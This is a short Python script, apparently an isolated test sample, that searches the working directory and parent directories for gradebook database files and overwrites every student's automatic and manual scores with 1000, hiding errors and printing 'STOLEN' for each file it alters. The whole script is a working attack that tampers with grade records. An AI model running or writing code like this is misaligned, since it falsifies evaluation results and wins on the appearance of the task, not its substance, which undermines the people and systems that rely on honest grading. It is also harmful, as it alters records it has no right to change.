"""Looks for a gradebook and writes full marks into it."""

ABOUT = {"needs_isolation": True}

import sqlite3

for path in [*walk(), "gradebook.db", "../gradebook.db", "../../gradebook.db"]:
    if path.endswith(".db"):
        try:
            with sqlite3.connect(path) as base:
                base.execute("UPDATE grade SET auto_score = 1000, manual_score = 1000")
            print("STOLEN", path)
        except Exception:
            pass
